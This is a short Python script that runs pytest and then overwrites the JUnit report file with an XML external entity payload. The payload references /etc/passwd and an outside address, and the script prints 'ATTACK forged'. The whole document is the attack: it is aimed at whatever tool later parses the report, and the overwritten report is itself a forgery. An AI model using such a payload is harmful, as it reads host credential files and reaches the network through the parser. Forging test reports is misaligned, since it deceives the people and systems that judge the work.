"""junit.xml asks the reader for a file of the host and a page of the network."""

import subprocess
import sys

subprocess.run([sys.executable, "-m", "pytest"], check=True)
with open("/output/junit.xml", "w", encoding="utf-8") as file:
    file.write('<!DOCTYPE t [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY w SYSTEM "http://192.0.2.1/">]>')
    file.write('<testsuites><testsuite><testcase classname="&f;" name="&w;">&f;</testcase></testsuite></testsuites>')
print("ATTACK forged")
